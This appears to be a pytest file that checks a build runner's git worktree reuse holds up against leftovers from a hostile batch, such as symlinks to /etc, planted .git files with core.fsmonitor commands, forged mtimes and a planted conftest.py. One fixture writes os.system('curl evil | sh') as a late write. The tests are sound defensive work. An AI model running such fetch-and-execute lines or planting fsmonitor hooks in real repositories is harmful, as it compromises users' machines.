"""A reused worktree is moved to the new head by what differs (issue 13), and must still come back
exactly as the head's tree whatever the previous batch's model left there: files, links, hidden
``.git`` files, changed modes, forged mtimes, writes outside its change, staged work that never
merged. The oracle is the disk itself (every entry, folders and links included) against the
head's tree as git lists it, not git's own status."""

from __future__ import annotations

import hashlib
import os
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import anyio
import pytest

from buildrunnerd.config import VerifyConfig
from buildrunnerd.protocol import VerificationReport
from buildrunnerd.workspace import GitWorkspace, RunRepo, prepare_run_repo
from buildrunnerd.workspace._git import record_git_calls

from ._helpers import run_git, task


def _blob_id(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


def on_disk(root: Path) -> dict[str, tuple[str, str]]:
    """Every entry under ``root`` but its ``.git`` file: files and links as (git mode, blob id),
    folders as ("dir", "")."""
    found: dict[str, tuple[str, str]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        here = Path(dirpath)
        for name in [*dirnames, *filenames]:
            path = here / name
            rel = path.relative_to(root).as_posix()
            if rel == ".git":
                continue
            st = path.lstat()
            if stat.S_ISLNK(st.st_mode):
                found[rel] = ("120000", _blob_id(os.readlink(path).encode()))
            elif stat.S_ISDIR(st.st_mode):
                found[rel] = ("dir", "")
            else:
                mode = "100755" if st.st_mode & stat.S_IXUSR else "100644"
                found[rel] = (mode, _blob_id(path.read_bytes()))
    return found


def in_git(repo: Path, commit: str) -> dict[str, tuple[str, str]]:
    listed: dict[str, tuple[str, str]] = {}
    for record in run_git(repo, "ls-tree", "-r", "-z", "--full-tree", commit).split("\0"):
        if record:
            meta, _, name = record.partition("\t")
            mode, _kind, sha = meta.split(" ")
            listed[name] = (mode, sha)
            parts = name.split("/")
            for i in range(1, len(parts)):
                listed["/".join(parts[:i])] = ("dir", "")
    return listed


async def _verified_feature(repo: Path, wt_root: Path
                            ) -> tuple[RunRepo, GitWorkspace, Path, str | None,
                                       VerificationReport]:
    """A run's first batch: ``feature.py`` written in a fresh worktree and verified."""
    t1 = task("t1", "feature.py")
    run_repo = await prepare_run_repo(repo, "r1")
    ws = GitWorkspace(run_repo, run_id="r1", worktree_root=wt_root, project_root=repo,
                      base_commit=run_repo.base_commit, test_cmd=None, plan_tasks=[t1],
                      spec_path=None)
    path, head = await ws.acquire()
    (path / "feature.py").write_text("def feature() -> int:\n    return 1\n")
    report = await ws.verify(path, [t1], head=head, config=VerifyConfig(), confinement=None)
    assert report.passed, report
    return run_repo, ws, path, head, report


def _setup(repo: Path) -> None:
    (repo / "pkg").mkdir()
    (repo / "pkg" / "core.py").write_text("CORE = 1\n")
    (repo / "pkg" / "tool.sh").write_text("#!/bin/sh\necho hi\n")
    (repo / "pkg" / "tool.sh").chmod(0o755)
    (repo / "docs").mkdir()
    (repo / "docs" / "guide.md").write_text("# guide\n")
    (repo / ".gitignore").write_text("*.log\nbuild/\n")
    (repo / "lib" / "a" / "b" / "c").mkdir(parents=True)  # a deep tracked folder
    (repo / "lib" / "a" / "b" / "c" / "leaf.py").write_text("LEAF = 1\n")
    run_git(repo, "add", "-A")
    run_git(repo, "commit", "-q", "-m", "layout")


async def _dirty_then_reacquire(repo: Path, wt_root: Path,
                                dirty: Callable[[Path, Path], None]) -> tuple[RunRepo, Path]:
    """A worktree that ``dirty`` left as a hostile batch would, released; another batch moves
    the branch; the dirty worktree is acquired again."""
    _setup(repo)
    run_repo = await prepare_run_repo(repo, "r1")
    victim = await run_repo.acquire_worktree(wt_root)
    other = await run_repo.acquire_worktree(wt_root)
    (other / "merged.py").write_text("M = 1\n")
    assert (await run_repo.commit_and_merge(other, "other batch")).merged
    await run_repo.release_worktree(other, reuse=False)
    dirty(victim, repo)
    await run_repo.release_worktree(victim)
    again = await run_repo.acquire_worktree(wt_root)
    assert again == victim
    return run_repo, again


def _assert_exactly_head(run_repo: RunRepo, path: Path, head: str) -> None:
    assert on_disk(path) == in_git(run_repo.repo, head)
    assert run_git(path, "rev-parse", "HEAD").strip() == head
    assert run_git(path, "status", "--porcelain", "--ignored", "--untracked-files=all") == ""


def _left_files(path: Path, _repo: Path) -> None:
    (path / "untracked.txt").write_text("left\n")
    (path / "debug.log").write_text("ignored\n")
    (path / "build" / "out").mkdir(parents=True)
    (path / "build" / "out" / "a.o").write_bytes(b"\0")
    (path / "empty" / "nested").mkdir(parents=True)  # an empty folder: a namespace package
    (path / "pkg" / "__pycache__").mkdir()
    (path / "pkg" / "__pycache__" / "core.cpython-311.pyc").write_bytes(b"\0" * 16)


def _left_links(path: Path, repo: Path) -> None:
    (path / "outside").symlink_to("/etc")
    (path / "dangling").symlink_to(path / "nowhere")
    (path / "docs" / "guide.md").unlink()
    (path / "docs" / "guide.md").symlink_to(repo / "README.md")  # a tracked file, now a link


def _dir_made_link(path: Path, repo: Path) -> None:
    for entry in (path / "docs").iterdir():
        entry.unlink()
    (path / "docs").rmdir()
    (path / "docs").symlink_to(repo / "pkg")


def _hidden_dotgit(path: Path, repo: Path) -> None:
    # A .git file in a tracked folder makes it look like another repository (the user's).
    (path / "pkg" / ".git").write_text(f"gitdir: {repo / '.git'}\n")
    nested = path / "vendored"
    nested.mkdir()
    run_git(nested, "init", "-q")
    run_git(nested, "config", "core.fsmonitor", f"touch {repo.parent / 'should-never-run'}")
    (nested / "x.py").write_text("X = 1\n")
    # A repository made of a tracked folder: its config chooses a program for git to run.
    run_git(path / "docs", "init", "-q")
    run_git(path / "docs", "config", "core.fsmonitor",
            f"touch {repo.parent / 'should-never-run'}")
    (path / "docs" / "extra.md").write_text("more\n")


def _modes(path: Path, _repo: Path) -> None:
    (path / "pkg" / "tool.sh").chmod(0o644)
    (path / "pkg" / "core.py").chmod(0o755)


def _forged_mtime(path: Path, _repo: Path) -> None:
    # Same size, the old mtime put back: only ctime (which no process can set) and inode
    # data tell the file changed.
    target = path / "pkg" / "core.py"
    before = target.stat()
    with target.open("r+b") as fh:
        fh.write(b"EVIL")
    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))


def _outside_change_staged(path: Path, _repo: Path) -> None:
    # The batch staged work (verification's `add -A`) and then failed: never merged.
    (path / "docs" / "guide.md").write_text("# rewritten by a failed batch\n")
    (path / "pkg" / "new_module.py").write_text("NEW = 1\n")
    (path / "app.py").unlink()
    run_git(path, "add", "-A")


def _staged_then_changed(path: Path, _repo: Path) -> None:
    (path / "pkg" / "core.py").write_text("CORE = 2\n")
    run_git(path, "add", "-A")
    (path / "pkg" / "core.py").write_text("CORE = 3, after staging\n")
    (path / "docs" / "guide.md").unlink()


def _file_made_dir(path: Path, _repo: Path) -> None:
    (path / "app.py").unlink()
    (path / "app.py").mkdir()
    (path / "app.py" / "inner.py").write_text("I = 1\n")


def _dotgit_deep_tracked(path: Path, repo: Path) -> None:
    # In folders that hold tracked files (git never sees a .git there): a file naming the
    # user's repository deep down, a whole repository (its .git a folder) further up.
    (path / "lib" / "a" / "b" / "c" / ".git").write_text(f"gitdir: {repo / '.git'}\n")
    run_git(path / "lib" / "a", "init", "-q")
    run_git(path / "lib" / "a", "config", "core.fsmonitor",
            f"touch {repo.parent / 'should-never-run'}")


def _dotgit_in_ignored_folder(path: Path, repo: Path) -> None:
    # build/ is ignored: a .git file there, and a nested repository below it.
    (path / "build" / "sub").mkdir(parents=True)
    (path / "build" / ".git").write_text(f"gitdir: {repo / '.git'}\n")
    (path / "build" / "a.o").write_bytes(b"\0")
    run_git(path / "build" / "sub", "init", "-q")
    (path / "trace.log").mkdir()  # an ignored name, as a folder holding a .git folder
    (path / "trace.log" / ".git").mkdir()


def _dotgit_in_created_folder(path: Path, repo: Path) -> None:
    # Folders the batch made: one staged (as a failed batch's verification leaves it, so its
    # folders are the index's), one never staged (untracked: clean removes it whole), with a
    # .git that names no repository (git status does not even show that folder).
    (path / "newpkg" / "inner").mkdir(parents=True)
    (path / "newpkg" / "inner" / "mod.py").write_text("MOD = 1\n")
    run_git(path, "add", "newpkg")
    (path / "newpkg" / "inner" / ".git").write_text(f"gitdir: {repo / '.git'}\n")
    (path / "newpkg" / ".git").mkdir()
    (path / "fresh" / "deeper").mkdir(parents=True)
    (path / "fresh" / ".git").write_text("not a gitdir line\n")
    (path / "fresh" / "deeper" / ".git").mkdir()


def _dotgit_through_a_link(path: Path, repo: Path) -> None:
    # Written through an untracked link to a tracked folder: it lands in that folder.
    (path / "alias").symlink_to(path / "lib" / "a")
    (path / "alias" / ".git").write_text(f"gitdir: {repo / '.git'}\n")
    (path / "pkg" / ".git").symlink_to(repo / ".git")  # a link named .git


@pytest.mark.parametrize("dirty", [
    _left_files, _left_links, _dir_made_link, _hidden_dotgit, _modes, _forged_mtime,
    _outside_change_staged, _staged_then_changed, _file_made_dir, _dotgit_deep_tracked,
    _dotgit_in_ignored_folder, _dotgit_in_created_folder, _dotgit_through_a_link,
], ids=lambda f: f.__name__.strip("_"))
async def test_a_reused_worktree_is_exactly_the_new_head(
        repo: Path, wt_root: Path, dirty: Callable[[Path, Path], None]) -> None:
    run_repo, path = await _dirty_then_reacquire(repo, wt_root, dirty)
    head = await run_repo.head()
    _assert_exactly_head(run_repo, path, head)
    assert not await anyio.Path(repo.parent / "should-never-run").exists()
    # The user's checkout and its repository are untouched.
    assert run_git(repo, "status", "--porcelain") == ""
    await run_repo.release_worktree(path, reuse=False)
    await run_repo.close()


async def test_a_clean_worktree_moves_by_its_change_only(repo: Path, wt_root: Path) -> None:
    # The common case (the batch committed what it verified): one status and the paths that
    # differ, no whole-tree reset.
    _setup(repo)
    run_repo = await prepare_run_repo(repo, "r1")
    first = await run_repo.acquire_worktree(wt_root)
    (first / "pkg" / "core.py").write_text("CORE = 2\n")
    assert (await run_repo.commit_and_merge(first, "first")).merged
    await run_repo.release_worktree(first)
    with record_git_calls() as calls:
        again = await run_repo.acquire_worktree(wt_root)
    assert again == first
    names = calls.subcommands()
    assert "reset" not in names and "read-tree" in names, names
    _assert_exactly_head(run_repo, again, await run_repo.head())
    await run_repo.release_worktree(again, reuse=False)
    await run_repo.close()


async def test_the_commit_holds_the_verified_tree_not_later_writes(
        repo: Path, wt_root: Path) -> None:
    # A process the batch left running writes after verification passed: neither the new file
    # nor the change to a verified file enters the commit (it holds the tree that was checked).
    run_repo, ws, path, head, report = await _verified_feature(repo, wt_root)
    config = VerifyConfig()
    (path / "feature.py").write_text("import os\nos.system('curl evil | sh')\n")
    (path / "backdoor.py").write_text("OPEN = True\n")
    done = await ws.integrate(path, "t1", report, head=head, batch_id="b1", config=config,
                              confinement=None)
    assert done.merged and done.commit is not None
    files = run_git(repo, "ls-tree", "-r", "--name-only", done.commit).split()
    assert "backdoor.py" not in files
    assert run_git(repo, "show", f"{done.commit}:feature.py") == (
        "def feature() -> int:\n    return 1\n")
    message = run_git(repo, "log", "-1", "--format=%B", done.commit)
    assert message.strip() == "t1"
    # The worktree comes back as the new head, the late writes gone.
    await ws.release(path)
    again, again_head = await ws.acquire()
    assert again == path and again_head == done.commit
    _assert_exactly_head(run_repo, again, done.commit)
    await ws.release(again, reuse=False)
    await ws.close()


@pytest.mark.parametrize("dotgit", ["names_the_repository", "repository", "garbage",
                                    "empty_folder"])
def test_clean_removes_an_untracked_folder_holding_a_dotgit(repo: Path, dotgit: str) -> None:
    """What the whole-tree reset relies on: a folder that holds no tracked file goes whole in
    ``clean -ffdx``, its ``.git`` (a file, a repository, anything) with it, even when
    ``status`` does not show the folder at all (a ``.git`` that names no repository)."""
    folder = repo / "made" / "by" / "model"
    folder.mkdir(parents=True)
    (folder / "x.py").write_text("X = 1\n")
    if dotgit == "names_the_repository":
        (folder / ".git").write_text(f"gitdir: {repo / '.git'}\n")
    elif dotgit == "repository":
        run_git(folder, "init", "-q")
    elif dotgit == "garbage":
        (folder / "x.py").unlink()
        (folder / ".git").write_text("no gitdir here\n")
    else:
        (folder / "x.py").unlink()
        (folder / ".git").mkdir()
    shown = run_git(repo, "status", "--porcelain", "--ignored", "--untracked-files=all")
    if dotgit in ("names_the_repository", "repository"):
        assert shown == "?? made/by/model/\n"  # a nested repository to git
    run_git(repo, "-c", "core.hooksPath=/dev/null", "clean", "-ffdxq")
    assert not (repo / "made").exists()
    # And git never shows the same .git in a folder that holds a tracked file: the walk for
    # them before the reset (_sweep.remove_nested_dotgits), or the list's (_reuse.put_back).
    (repo / "sub").mkdir()
    (repo / "sub" / "kept.py").write_text("K = 1\n")
    run_git(repo, "add", "sub")
    (repo / "sub" / ".git").write_text(f"gitdir: {repo / '.git'}\n")
    assert run_git(repo, "status", "--porcelain", "--ignored", "--untracked-files=all") == (
        "A  sub/kept.py\n")
    run_git(repo, "clean", "-ffdxq")
    assert (repo / "sub" / ".git").exists()


async def test_a_tracked_folder_made_a_link_is_not_followed(repo: Path, wt_root: Path) -> None:
    # A tracked folder replaced by a link to a folder outside that holds a .git: the reset
    # does not follow it (the outside .git stays), and the worktree comes back as the head.
    outside = repo.parent / "outside"
    outside.mkdir()
    (outside / ".git").write_text("gitdir: /nowhere\n")
    (outside / "c").mkdir()
    (outside / "c" / ".git").mkdir()

    def dirty(path: Path, _repo: Path) -> None:
        target = path / "lib" / "a" / "b"
        (target / "c" / "leaf.py").unlink()
        (target / "c").rmdir()
        target.rmdir()
        target.symlink_to(outside)

    run_repo, path = await _dirty_then_reacquire(repo, wt_root, dirty)
    _assert_exactly_head(run_repo, path, await run_repo.head())
    assert (outside / ".git").is_file() and (outside / "c" / ".git").is_dir()
    await run_repo.release_worktree(path, reuse=False)
    await run_repo.close()


async def test_a_hidden_file_in_a_folder_made_unlistable_never_reaches_the_next_batch(
        repo: Path, wt_root: Path) -> None:
    # git's status and clean cannot list a tracked folder its owner cannot read (both say
    # nothing, clean removes nothing; root reads it all the same), yet a known name there can
    # still be opened (a conftest.py, a module): the list of what changed holds the folder
    # (its mode changed) and, as root, the file in it, which goes; not root, ``find`` cannot
    # read the folder and the worktree is not reused.
    _setup(repo)
    run_repo = await prepare_run_repo(repo, "r1")
    victim = await run_repo.acquire_worktree(wt_root)
    (victim / "pkg" / "conftest.py").write_text("raise SystemExit('planted')\n")
    (victim / "pkg").chmod(0o300)
    await run_repo.release_worktree(victim)
    try:
        with record_git_calls() as calls:
            again = await run_repo.acquire_worktree(wt_root)
    finally:
        if (victim / "pkg").is_dir():
            (victim / "pkg").chmod(0o755)
    assert not (again / "pkg" / "conftest.py").exists()
    assert again != victim or "reset" not in calls.subcommands(), calls.subcommands()
    if again == victim:
        _assert_exactly_head(run_repo, again, await run_repo.head())
    await run_repo.release_worktree(again, reuse=False)
    await run_repo.close()


_LISTED: list[str] = []
_LISTING = False


def _count_listings(event: str, args: tuple[object, ...]) -> None:
    if _LISTING and event in ("os.scandir", "os.listdir"):
        _LISTED.append(str(args[0]) if args else "")


async def test_the_reuse_lists_only_the_folders_the_batch_changed(
        repo: Path, wt_root: Path) -> None:
    """The reuse reads the entries of the folders the list holds (a ``.git`` made in one
    moves its ctime) and of no other (the whole-tree reset walked every folder and file)."""
    global _LISTING
    sys.addaudithook(_count_listings)  # process-wide and permanent: gated by _LISTING
    _setup(repo)
    run_repo = await prepare_run_repo(repo, "r1")
    first = await run_repo.acquire_worktree(wt_root)
    (first / "lib" / "a" / "b" / "c" / ".git").write_text(f"gitdir: {repo / '.git'}\n")
    await run_repo.release_worktree(first)
    _LISTED.clear()
    _LISTING = True
    try:
        again = await run_repo.acquire_worktree(wt_root)
    finally:
        _LISTING = False
    assert again == first and _LISTED == [str(first / "lib" / "a" / "b" / "c")], _LISTED
    assert not (again / "lib" / "a" / "b" / "c" / ".git").exists()
    _assert_exactly_head(run_repo, again, await run_repo.head())
    await run_repo.release_worktree(again, reuse=False)
    await run_repo.close()


@pytest.mark.parametrize("dirty", [
    _left_files, _hidden_dotgit, _forged_mtime, _dotgit_deep_tracked, _file_made_dir,
    _outside_change_staged,
], ids=lambda f: f.__name__.strip("_"))
async def test_a_worktree_whose_index_holds_the_head_is_still_checked(
        repo: Path, wt_root: Path, dirty: Callable[[Path, Path], None]) -> None:
    # The batch's own verified commit was fast-forwarded: the index already holds the head's
    # tree, so no read-tree is needed. What was written after the commit (a leftover process)
    # is found all the same, and the worktree comes back exactly as the head.
    _setup(repo)
    run_repo, ws, path, head, report = await _verified_feature(repo, wt_root)
    config = VerifyConfig()
    done = await ws.integrate(path, "t1", report, head=head, batch_id="b1", config=config,
                              confinement=None)
    assert done.merged and done.commit is not None
    dirty(path, repo)
    await ws.release(path)
    with record_git_calls() as calls:
        again, again_head = await ws.acquire()
    assert again == path and again_head == done.commit
    _assert_exactly_head(run_repo, again, done.commit)
    assert not await anyio.Path(repo.parent / "should-never-run").exists()
    if dirty is _left_files:  # only untracked files: moved by what differs, nothing to read
        assert "read-tree" not in calls.subcommands() and "reset" not in calls.subcommands()
    await ws.release(again, reuse=False)
    await ws.close()
